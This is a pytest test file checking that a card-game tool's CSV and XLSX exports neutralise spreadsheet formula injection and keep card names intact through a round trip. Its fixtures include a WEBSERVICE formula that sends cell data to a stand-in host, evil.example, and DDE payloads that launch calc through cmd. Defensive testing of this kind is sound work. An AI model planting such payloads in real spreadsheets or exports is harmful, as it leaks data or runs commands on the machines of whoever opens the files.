"""Exported spreadsheet cells never become live formulas (OWASP CSV injection), and come back as they were.

Before: a card named `=WEBSERVICE("http://…"&C2)` was written as is to `forge cards export`'s CSV
and as a formula to its XLSX: opening the sheet sent the next cell to a URL. Now a CSV cell
starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a `'` in front, an XLSX cell is
always a string, and the import takes off only the `'` forge added, so a name that really starts
with `-` or `'=` survives the round trip. The print shops' quantities.csv and the termbase CSV
export are neutralised the same way.
"""
from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from ..conftest import invoke


ATTACK = '=WEBSERVICE("http://evil.example/?"&C2)'
NAMES = {"kindle": ATTACK, "ash-runner": "+1+cmd|' /C calc'!A0", "flame-lash": "-dash", "war-drummer": "'=quoted",
         "feed-the-flames": "@SUM(1+1)*cmd|' /C calc'!A0"}


def renamed(root: Path) -> dict[str, str]:
    """The red cards of ``NAMES`` given those English names; returns what was renamed."""
    path = root / "cards" / "red.yaml"
    text = path.read_text(encoding="utf-8")
    done = {}
    for cid, name in NAMES.items():
        at = text.index(f"id: {cid}\n")
        start = text.index("name: {en: ", at) + len("name: {en: ")
        end = text.index(",", start)
        quoted = '"' + name.replace("\\", "\\\\").replace('"', '\\"') + '"'
        text = text[:start] + quoted + text[end:]
        done[cid] = name
    path.write_text(text, encoding="utf-8")
    return done


def export(root: Path, fmt: str) -> Path:
    out = root / "output" / f"cards.{fmt}"
    result = invoke(["cards", "export", "--root", str(root), "--format", fmt, "--out", str(out)])
    assert result.exit_code == 0, result.output
    return out


def test_csv_cells_that_would_be_formulas_get_a_quote(shipped: Path):
    names = renamed(shipped)
    rows = list(csv.reader(io.StringIO(export(shipped, "csv").read_text(encoding="utf-8-sig"), newline="")))
    column = rows[0].index("name.en")
    written = {row[rows[0].index("id")]: row[column] for row in rows[1:]}
    for cid, name in names.items():
        assert written[cid] == "'" + name, (cid, written[cid])
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in rows for cell in row)


def test_xlsx_cells_are_strings_never_formulas(shipped: Path):
    from openpyxl import load_workbook

    renamed(shipped)
    path = export(shipped, "xlsx")
    with zipfile.ZipFile(path) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    sheet = load_workbook(path).worksheets[0]
    cell = next(c for row in sheet.iter_rows() for c in row if c.value == ATTACK)
    assert cell.data_type == "s"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_names_come_back_as_they_were(shipped: Path, fmt: str, cli):
    renamed(shipped)
    before = {p.name: p.read_bytes() for p in (shipped / "cards").iterdir()}
    sheet = export(shipped, fmt)
    result = cli(["cards", "import", str(sheet), "--root", str(shipped)])
    assert result.exit_code == 0 and "0 changed" in result.output, result.output
    assert {p.name: p.read_bytes() for p in (shipped / "cards").iterdir()} == before


def test_the_other_csv_writers_neutralise_too(monkeypatch):
    import forge.render.cards as cards
    from forge.text.termbase import Term, Termbase, to_csv
    from forge.spreadsheet.tables import neutralise, restore

    assert [neutralise(c) for c in ("=1", "-x", "'=y", "ok", "'ok")] == ["'=1", "'-x", "''=y", "ok", "'ok"]
    assert [restore(neutralise(c)) for c in ("=1", "-x", "'=y", "''@z", "ok", "'ok", "\tx", "\rx")] == \
        ["=1", "-x", "'=y", "''@z", "ok", "'ok", "\tx", "\rx"]

    class Face:
        id, name, copies, set = "kindle", ATTACK, 3, "red"

    monkeypatch.setattr(cards, "back_of", lambda face: type("Back", (), {"id": "back-red"}))
    row = list(csv.reader(io.StringIO(cards._quantities_csv([Face()]).decode("utf-8"))))[1]
    assert row[2] == "'" + ATTACK
    terms = list(csv.reader(io.StringIO(to_csv(Termbase([Term("soul", ATTACK, "@fr", definition="+d")])))))
    assert terms[1][3:5] == ["'" + ATTACK, "'@fr"] and terms[1][8] == "'+d"
